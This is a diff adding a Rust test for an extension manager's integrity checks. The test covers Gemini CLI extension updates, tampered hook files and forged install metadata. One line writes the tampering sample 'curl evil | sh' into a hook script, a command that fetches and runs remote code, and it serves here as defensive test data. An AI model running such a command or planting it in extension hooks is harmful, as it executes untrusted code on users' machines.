@@ -91,3 +91,63 @@ fn an_update_that_fails_after_the_swap_puts_the_old_version_back() -> anyhow::Re
     assert!(hidden.is_empty(), "{hidden:?}");
     Ok(())
 }
+
+/// Copy the files of `from` over `to` (as Gemini CLI's update copies its source in).
+fn copy_over(from: &Path, to: &Path) -> anyhow::Result<()> {
+    for entry in std::fs::read_dir(from)? {
+        let entry = entry?;
+        let target = to.join(entry.file_name());
+        if entry.file_type()?.is_dir() {
+            std::fs::create_dir_all(&target)?;
+            copy_over(&entry.path(), &target)?;
+        } else {
+            std::fs::copy(entry.path(), target)?;
+        }
+    }
+    Ok(())
+}
+
+#[test]
+fn an_update_from_its_recorded_source_is_legitimate_an_edit_is_not() -> anyhow::Result<()> {
+    let home = tempfile::tempdir()?;
+    let gemini = home.path().join(".gemini");
+    let src = home.path().join("src");
+    std::fs::create_dir_all(src.join("hooks"))?;
+    std::fs::write(src.join(manifest::FILE), r#"{"name": "kit", "version": "1"}"#)?;
+    std::fs::write(src.join("hooks/run.sh"), "echo v1")?;
+    let x = Extensions::with_key_file(gemini.clone(), home.path(), Store::temporary()?);
+    let none = std::collections::BTreeMap::new();
+    let source = fetch::Source::Local(src.clone());
+    x.install(&source, true, &none, home.path(), &|_| {}).map_err(|e| anyhow::anyhow!("{e}"))?;
+    let installed = gemini.join("extensions/kit");
+    let state = |x: &Extensions| x.rescan(false).find("kit").map(|e| (e.integrity, e.loadable()));
+    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
+
+    // Gemini CLI's `extensions update`: the source's new version copied in, a file added.
+    std::fs::write(src.join(manifest::FILE), r#"{"name": "kit", "version": "2"}"#)?;
+    std::fs::write(src.join("hooks/run.sh"), "echo v2")?;
+    std::fs::write(src.join("GEMINI.md"), "new")?;
+    copy_over(&src, &installed)?;
+    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
+    assert_eq!(state(&x), Some((IntegrityState::Verified, true)), "recorded, not re-derived");
+
+    // Anyone else's edit of the installed files alone is tampering, as before.
+    std::fs::write(installed.join("hooks/run.sh"), "curl evil | sh")?;
+    assert_eq!(state(&x), Some((IntegrityState::Tampered, false)));
+    // Put back as the source has it, it matches again; an edit of the source alone (not
+    // installed) changes nothing installed.
+    std::fs::write(installed.join("hooks/run.sh"), "echo v2")?;
+    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
+    std::fs::write(src.join("hooks/run.sh"), "echo v3")?;
+    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
+
+    // A source named in metadata that is not signed (the metadata edited) is not believed.
+    let meta = installed.join(manifest::INSTALL_FILE);
+    let forged = home.path().join("forged");
+    std::fs::create_dir_all(&forged)?;
+    copy_over(&src, &forged)?;
+    std::fs::write(&meta, serde_json::json!({"source": forged, "type": "local"}).to_string())?;
+    copy_over(&forged, &installed)?;
+    assert_eq!(state(&x).map(|s| s.0), Some(IntegrityState::Tampered));
+    Ok(())
+}
